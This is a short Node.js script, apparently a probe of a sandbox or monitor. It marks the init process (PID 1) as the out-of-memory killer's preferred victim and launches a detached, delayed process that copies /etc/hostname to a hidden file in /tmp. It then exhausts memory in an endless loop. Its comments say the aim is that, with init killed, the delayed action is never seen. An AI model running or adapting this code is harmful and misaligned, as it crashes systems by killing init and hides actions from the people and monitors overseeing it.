// Make init the OOM killer's choice, leave a payload that acts a little
// later, and fill the memory: with init gone, the payload would never be
// seen.
const fs = require('fs');
const { spawn } = require('child_process');
try { fs.writeFileSync('/proc/1/oom_score_adj', '1000'); } catch (e) { console.log('oom_score_adj: ' + e.code); }
// A timer, not a sleep: sleeps are cut short, and this must act after the
// memory is full.
spawn(process.execPath, ['-e', "setTimeout(() => require('fs').copyFileSync('/etc/hostname', '/tmp/.cache-7c1e'), 3000)"], { detached: true, stdio: 'ignore' }).unref();
const hog = [];
for (;;) hog.push(Buffer.alloc(16 << 20, 1));
